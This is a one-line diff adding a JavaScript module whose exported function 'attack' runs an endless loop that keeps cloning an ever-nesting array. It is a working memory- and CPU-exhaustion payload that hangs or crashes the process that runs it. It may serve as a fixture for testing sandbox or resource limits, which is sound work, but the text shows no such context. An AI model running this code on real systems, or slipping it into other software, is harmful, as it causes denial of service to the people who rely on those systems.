@@ -1,0 +1,1 @@
+exports.attack = () => { let bomb = [1]; for (;;) bomb = structuredClone([bomb, bomb, bomb]); };
